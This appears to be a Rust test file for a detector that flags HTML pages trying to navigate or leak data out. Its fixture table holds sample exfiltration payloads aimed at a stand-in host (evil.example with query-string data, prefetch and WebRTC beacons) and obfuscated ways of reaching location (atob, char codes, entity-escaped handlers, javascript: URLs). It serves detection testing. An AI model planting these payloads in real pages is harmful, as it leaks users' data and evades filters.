//! The navigation check, page by page: every escape spelling the record
//! lists, obfuscated spellings, and benign pages that must stay quiet.

use super::*;

/// (name, page, the rule that must be found, or None for a quiet page)
const PAGES: &[(&str, &str, Option<&str>)] = &[
    // Quiet pages.
    ("plain page", "<!doctype html><h1>Tip calculator</h1><p>Enter the bill.</p>", None),
    ("text mentions location", "<p>The location of the office: 5 Main St. Open 9-5, top floor, parent company ACME.</p>", None),
    ("fragment link", "<a href=\"#totals\">Jump to totals</a><h2 id=totals>Totals</h2>", None),
    ("empty href", "<a href=\"\">here</a>", None),
    ("calculator app", "<input id=a><button id=b>Add</button><output id=o></output><script>document.getElementById('b').addEventListener('click',()=>{const v=Number(document.getElementById('a').value);document.getElementById('o').textContent=v*1.2;});</script>", None),
    ("layout code with .top", "<div id=box></div><script>const r=document.getElementById('box').getBoundingClientRect();const top=r.top;console.log(top, r.left, node && node.parent);</script>", None),
    ("string says location", "<script>const label = 'Location: Paris'; document.title = label;</script>", None),
    ("inline styles and data images", "<style>body{font:14px sans-serif}</style><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=x>", None),
    ("svg drawing", "<svg viewBox=\"0 0 10 10\"><circle cx=5 cy=5 r=4 fill=teal /><use href=\"#c\"/></svg>", None),
    ("json data script", "<script type=application/json id=d>{\"location\": \"Paris\", \"top\": 3}</script>", None),
    ("canvas chart", "<canvas id=c></canvas><script>const ctx=document.getElementById('c').getContext('2d');ctx.fillRect(0,0,10,10);window.addEventListener('resize',()=>draw());</script>", None),
    ("template text", "<script>const msg = `Open at ${hours} on the top floor`; out.textContent = msg;</script>", None),
    // Links, forms, refreshes, frames, downloads, hints.
    ("link out", "<a href=\"https://evil.example/?d=secret\">more</a>", Some("link-out")),
    ("protocol-relative link", "<a href=\"//evil.example\">x</a>", Some("link-out")),
    ("area link", "<map><area href=\"http://evil.example\" shape=rect coords=\"0,0,9,9\"></map>", Some("link-out")),
    ("svg link", "<svg><a xlink:href=\"https://evil.example\"><text>x</text></a></svg>", Some("link-out")),
    ("form", "<form action=\"https://evil.example\"><input name=q></form>", Some("form")),
    ("formaction", "<button formaction=\"https://evil.example\">go</button>", Some("form")),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?d=1\">", Some("meta-refresh")),
    ("meta refresh odd case", "<META HTTP-EQUIV=Refresh CONTENT=\"1; URL=https://evil.example\">", Some("meta-refresh")),
    ("iframe", "<iframe src=\"https://evil.example\"></iframe>", Some("nested-frame")),
    ("srcdoc frame", "<iframe srcdoc=\"<p>hi</p>\"></iframe>", Some("nested-frame")),
    ("object", "<object data=\"https://evil.example/x.swf\"></object>", Some("nested-frame")),
    ("embed", "<embed src=\"https://evil.example/x\">", Some("nested-frame")),
    ("download link", "<a href=\"#\" download=\"x.txt\">save</a>", Some("download")),
    ("dns-prefetch", "<link rel=\"dns-prefetch\" href=\"//secret.evil.example\">", Some("resource-hint")),
    ("preconnect", "<link rel=\"preconnect\" href=\"https://evil.example\">", Some("resource-hint")),
    ("prefetch", "<link rel=prefetch href=\"https://evil.example/?d=1\">", Some("resource-hint")),
    ("prerender", "<link rel=\"PRERENDER\" href=\"https://evil.example\">", Some("resource-hint")),
    ("speculation rules", "<script type=\"speculationrules\">{\"prefetch\":[{\"urls\":[\"https://evil.example\"]}]}</script>", Some("speculation-rules")),
    ("ping", "<a href=\"#\" ping=\"https://evil.example\">x</a>", Some("ping")),
    ("svg animation of a link", "<svg><a><set attributeName=\"href\" to=\"https://evil.example\"/><text>x</text></a></svg>", Some("svg-animation")),
    ("noscript link", "<noscript><a href=\"https://evil.example\">x</a></noscript>", Some("link-out")),
    // Scripts.
    ("location assign", "<script>location = 'https://evil.example/?d=' + data;</script>", Some("script")),
    ("location.href", "<script>window.location.href = u;</script>", Some("script")),
    ("document.location", "<script>document.location.replace(u)</script>", Some("script")),
    ("window.open", "<script>window.open('https://evil.example')</script>", Some("script")),
    ("bare open", "<script>open(u)</script>", Some("script")),
    ("top navigation", "<script>top.location = u</script>", Some("script")),
    ("parent reach", "<script>parent.postMessage(secret, '*')</script>", Some("script")),
    ("opener", "<script>window.opener.location = u</script>", Some("script")),
    ("click", "<a id=l href=\"#\"></a><script>document.getElementById('l').click()</script>", Some("script")),
    ("submit", "<script>document.forms[0].submit()</script>", Some("script")),
    ("synthetic mouse event", "<script>el.dispatchEvent(new MouseEvent('click'))</script>", Some("script")),
    ("document.write", "<script>document.write('<p>hi</p>')</script>", Some("script")),
    ("webrtc", "<script>const pc = new RTCPeerConnection({iceServers:[{urls:'stun:evil.example'}]});</script>", Some("script")),
    ("navigation api", "<script>navigation.navigate(u)</script>", Some("script")),
    ("created link", "<script>const a = document.createElement('a'); a.href = u; document.body.append(a);</script>", Some("script")),
    ("created meta", "<script>const m = document.createElement('META');</script>", Some("script")),
    ("computed element", "<script>document.createElement(name)</script>", Some("script")),
    ("markup string", "<script>box.innerHTML = '<meta http-equiv=refresh content=0;url=https://evil.example>';</script>", Some("script")),
    ("link in markup string", "<script>box.innerHTML = `<a href=\"https://evil.example\">x</a>`;</script>", Some("script")),
    // Obfuscated spellings.
    ("atob bracket", "<script>self[atob('bG9jYXRpb24=')] = url</script>", Some("script")),
    ("concatenated key", "<script>window['loc' + 'ation'] = url</script>", Some("script")),
    ("literal key", "<script>globalThis[\"location\"].assign(u)</script>", Some("script")),
    ("escaped key", "<script>window['\\x6cocation'] = u</script>", Some("script")),
    ("unicode escape identifier", "<script>\\u006cocation = u</script>", Some("script")),
    ("eval", "<script>eval(code)</script>", Some("script")),
    ("Function constructor", "<script>new Function('return this')()</script>", Some("script")),
    ("fromCharCode", "<script>const k = String.fromCharCode(108,111,99); w[k] = u;</script>", Some("script")),
    ("string timer", "<script>setTimeout('location=u', 10)</script>", Some("script")),
    ("window alias", "<script>const w = window; w.location = u;</script>", Some("script")),
    ("comment hides nothing", "<script>/* harmless */ location.assign(u) // done</script>", Some("script")),
    // A browser reads `<scr<script>` as an unknown element and what follows
    // as text: nothing runs, and a parser sees it the same way.
    ("split script tag", "<scr<script>ipt>location=u</script>", None),
    ("top as a local", "<script>function place(el){ const { top, left } = el.getBoundingClientRect(); return [top, left]; }</script>", None),
    // Handlers and javascript: addresses.
    ("onclick handler", "<button onclick=\"location='https://evil.example'\">go</button>", Some("handler")),
    ("onerror handler", "<img src=x onerror=\"top.location=u\">", Some("handler")),
    ("entity-escaped handler", "<img src=x onerror=\"&#108;ocation=u\">", Some("handler")),
    ("unknown entity in handler", "<div onmouseover=\"lo&zwnj;cation=u\">x</div>", Some("handler")),
    ("javascript href", "<a href=\"javascript:go()\">x</a>", Some("javascript-url")),
    ("javascript href with tab", "<a href=\"java\tscript:go()\">x</a>", Some("javascript-url")),
    ("javascript href escaped", "<a href=\"jav&#x61;script&colon;go()\">x</a>", Some("javascript-url")),
    ("svg script", "<svg><script>location=u</script></svg>", Some("script")),
];

#[test]
fn every_page_in_the_table() {
    assert!(PAGES.len() >= 40, "{} pages", PAGES.len());
    let mut wrong = Vec::new();
    for (name, page, rule) in PAGES {
        let found = navigation(page);
        let ok = match rule {
            None => found.is_empty(),
            Some(rule) => found.iter().any(|f| f.rule == *rule),
        };
        if !ok {
            wrong.push(format!("{name}: wanted {rule:?}, found {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn findings_say_why() {
    let found = navigation("<a href=\"https://evil.example/x\">x</a>");
    assert_eq!(
        found[0].detail,
        "a link out (<a> to https://evil.example/x)"
    );
}

#[test]
fn a_huge_page_is_checked_whole() {
    let mut page = "<p>filler</p>".repeat(30_000);
    page.push_str("<a href=\"https://evil.example\">x</a>");
    assert!(navigation(&page).iter().any(|f| f.rule == "link-out"));
}
